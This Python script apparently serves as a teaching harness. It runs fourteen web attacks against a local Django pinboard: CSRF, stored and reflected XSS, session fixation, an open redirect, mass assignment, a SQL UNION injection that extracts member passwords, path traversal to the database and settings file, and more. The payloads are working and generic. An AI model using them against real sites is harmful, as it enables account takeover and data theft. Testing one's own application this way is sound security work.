"""Attack the pinboard that runs on this machine, and say what was won.

    python attack.py [port]             all attacks
    python attack.py [port] csrf        one of them

Each attack is a function: what it sends is all there is to it. Two kinds of people take
part, a member who means well and Mallory, who does not; each has a browser of their own.
The tool that attacks a site in earnest is no cleverer, only more patient.
"""

import http.client
import http.cookies
import re
import secrets
import sys
from urllib.parse import quote, urlencode, urlsplit

PORT = 8015
PASSWORD = "correct horse"


class Browser:
    """Cookies, forms with their tokens, and no redirects: we want to see them.

    Its cookies go with every request. Browsers of today keep those that say SameSite=Lax
    (Django's do) from a POST of another site, but not from one of another host of ours.
    """

    def __init__(self):
        self.cookies = {}

    def get(self, target):
        return self.send("GET", target)

    def post(self, target, fields, form=None, **more):
        """Send a form as its page does: with the token, if the page has one."""
        page = self.get(form or target)[2]
        token = re.search(r'csrfmiddlewaretoken" value="([^"]*)', page)
        fields = fields | ({"csrfmiddlewaretoken": token[1]} if token else {})
        return self.send("POST", target, urlencode(fields), **more)

    def upload(self, name, content):
        page = self.get("/files/new/")[2]
        token = re.search(r'csrfmiddlewaretoken" value="([^"]*)', page)
        fields = {"name": name} | ({"csrfmiddlewaretoken": token[1]} if token else {})
        lines = [
            f'--X\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'
            for key, value in fields.items()
        ]
        head = 'Content-Disposition: form-data; name="file"; filename="file"'
        body = "".join(lines) + f"--X\r\n{head}\r\n\r\n{content}\r\n--X--\r\n"
        kind = "multipart/form-data; boundary=X"
        return self.send("POST", "/files/new/", body, kind)

    def send(self, method, target, body=None, kind="application/x-www-form-urlencoded"):
        headers = {"Content-Type": kind} if body is not None else {}
        if self.cookies:
            headers["Cookie"] = "; ".join(f"{k}={v}" for k, v in self.cookies.items())
        link = http.client.HTTPConnection("127.0.0.1", PORT, timeout=10)
        link.request(method, target, body and body.encode(), headers)
        response = link.getresponse()
        text = response.read().decode("utf-8", "replace")
        for line in response.headers.get_all("Set-Cookie", []):
            for name, morsel in http.cookies.SimpleCookie(line).items():
                self.cookies[name] = morsel.value
        link.close()
        return response.status, response.headers, text


def member(name):
    """Let somebody of this name, and a number, join and sign in."""
    browser = Browser()
    browser.name = f"{name}-{secrets.randbelow(10**6)}"
    who = {"name": browser.name, "password": PASSWORD}
    browser.post("/join/", who)
    browser.post("/sign-in/", who)
    return browser


def page_of(member):
    return member.get(f"/members/{member.name}/")[2]


# The attacks. Each gives what was won, or nothing.


def csrf():
    """Another site has a page with a form that sends itself, to us. The browser of
    whoever opens it adds our cookie."""
    ada = member("Ada")
    ada.send("POST", "/profile/", urlencode({"about": "Mallory was here"}))
    return (
        "Mallory was here" in page_of(ada) and "Ada's profile says what Mallory wants."
    )


def get_that_deletes():
    """Another site leads the browser to …/notes/3/delete/, by a link or a redirect. That
    is a GET, and the cookie goes with it, SameSite=Lax or not."""
    ada = member("Ada")
    ada.post("/notes/new/", {"text": "A note of Ada's."})
    place = re.findall(r'href="(/notes/\d+/)"', ada.get("/")[2])[0]
    ada.get(f"{place}delete/")
    return ada.get(place)[0] == 404 and f"{place} is gone, and Ada has pressed nothing."


def stored_xss():
    """A note holds a script, which everybody's browser runs as if it were the site's."""
    mallory = member("Mallory")
    script = f"<script>steal({secrets.randbelow(10**6)})</script>"
    mallory.post("/notes/new/", {"text": script})
    return script in Browser().get("/")[2] and f"The first page has {script}"


def reflected_xss():
    """A link, sent by mail, has the script in its address; the page repeats it."""
    script = "<img src=x onerror=steal(1)>"
    for target in f"/search/?q={quote(script)}", f"/members/{quote(script)}/":
        if script in Browser().get(target)[2]:
            return f"Who opens {target} runs a script."
    return None


def homepage():
    """A homepage whose address is no address. Escaping finds nothing to escape in it."""
    mallory = member("Mallory")
    mallory.post("/profile/", {"homepage": "javascript:steal(2)", "about": ""})
    return 'href="javascript:' in page_of(mallory) and "Who clicks there runs a script."


def session_fixation():
    """Mallory gets a session, and brings Ada to sign in with the same key."""
    mallory, ada = Browser(), member("Ada")
    mallory.post("/theme/", {"theme": "dark"}, form="/")
    ada.cookies = dict(mallory.cookies)
    ada.post("/sign-in/", {"name": ada.name, "password": PASSWORD})
    return ada.name in mallory.get("/")[2] and "Mallory is signed in as Ada."


def old_cookie():
    """Ada signs out. Somebody has seen her cookie before."""
    ada, other = member("Ada"), Browser()
    other.cookies = dict(ada.cookies)
    ada.post("/sign-out/", {}, form="/")
    return other.get("/profile/")[0] == 200 and "Ada's old cookie still works."


def open_redirect():
    """A link to our own sign-in page leads on to another site, which looks like ours."""
    ada = member("Ada")
    who = {"name": ada.name, "password": PASSWORD}
    for evil in "https://mallory.example/", "//mallory.example/", "/\\mallory.example/":
        _, headers, _ = Browser().post(f"/sign-in/?next={quote(evil)}", who)
        place = (headers["Location"] or "").replace("\\", "/")
        if urlsplit(place).netloc:
            return f"next={evil} leads there."
    return None


def mass_assignment():
    """A form is sent with a field that it does not have."""
    mallory, ada = member("Mallory"), member("Ada")
    ada.post("/notes/new/", {"text": "A note of Ada's."})
    place = re.findall(r'href="(/notes/\d+/)"', ada.get("/")[2])[0]
    mallory.post("/profile/", {"about": "", "homepage": "", "is_moderator": "1"})
    return "Delete" in mallory.get(place)[2] and "Mallory is a moderator."


def injection():
    """The words to search for end the text in the statement, and go on as SQL."""
    ada = member("Ada")
    ask = "%' UNION SELECT id, name || ' has ' || password, 0, '2026-01-01', id "
    ask += f"FROM notes_member WHERE name = '{ada.name}' --"
    found = re.search(f"{ada.name} has [^<]*", ada.get(f"/search/?q={quote(ask)}")[2])
    return found and f"The search says: {found[0]}"


def private_note():
    """Numbers can be counted: whose note is the one before mine?"""
    ada, mallory = member("Ada"), member("Mallory")
    ada.post("/notes/new/", {"text": "My diary.", "is_private": "on"})
    place = re.findall(r'href="(/notes/\d+/)"', ada.get("/")[2])[0]
    return "My diary." in mallory.get(place)[2] and f"{place} is Ada's diary."


def path_traversal():
    """The name of a file leads out of its folder, up and down again."""
    for target in "/files/../db.sqlite3", "/files/../../pinboard/settings.py":
        if Browser().get(target)[0] == 200:
            return f"{target} can be fetched."
    mallory = member("Mallory")
    mallory.upload("../mallory.txt", "Mallory was here")
    status, _, text = Browser().get("/files/../mallory.txt")
    return "Mallory" in text and status == 200 and "A file lies where Mallory wants."


def uploaded_page():
    """A file is a page with a script, and comes from our own address."""
    mallory = member("Mallory")
    name = f"{mallory.name}.html"
    mallory.upload(name, "<script>steal(3)</script>")
    _, headers, text = Browser().get(f"/files/{name}")
    is_page = headers.get_content_type() == "text/html" and "steal" in text
    is_shown = "attachment" not in headers.get("Content-Disposition", "")
    return is_page and is_shown and f"/files/{name} is a page of Mallory's on our site."


def enumeration():
    """Whoever signs in with a wrong password learns which names there are."""
    ada = member("Ada")
    for target in "/sign-in/", "/forgot/":
        texts = [
            re.sub(r'value="[^"]*"|' + re.escape(name), "", answer)
            for name in (ada.name, "Nobody")
            for answer in [Browser().post(target, {"name": name, "password": "x"})[2]]
        ]
        if texts[0] != texts[1]:
            return f"{target} answers a member's name otherwise than another."
    return None


ATTACKS = [
    *(csrf, get_that_deletes, stored_xss, reflected_xss, homepage, session_fixation),
    *(old_cookie, open_redirect, mass_assignment, injection, private_note),
    *(path_traversal, uploaded_page, enumeration),
]


def main():
    global PORT
    words = sys.argv[1:]
    if words and words[0].isdecimal():
        PORT = int(words.pop(0))
    chosen = [attack for attack in ATTACKS if attack.__name__ in words] or ATTACKS
    for attack in chosen:
        try:
            won = attack()
        except ConnectionRefusedError:
            sys.exit(f"Nothing answers on port {PORT}. Start the site first: serve.py.")
        except (IndexError, OSError) as error:
            won = f"cannot tell ({error}): does the site still do what it did?"
        print(f"{attack.__name__:<17} {'won: ' + str(won) if won else 'refused'}")


if __name__ == "__main__":
    main()
